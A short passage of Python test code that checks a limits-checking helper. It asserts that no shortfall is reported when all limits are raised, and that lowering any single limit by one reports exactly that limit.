    assert _figures(path, dataclasses.replace(limits, **raised)) == {}
    for name, figure in raised.items():
        short = {**raised, name: figure - 1}
        assert _figures(path, dataclasses.replace(limits, **short)) == {name: needed[name]}
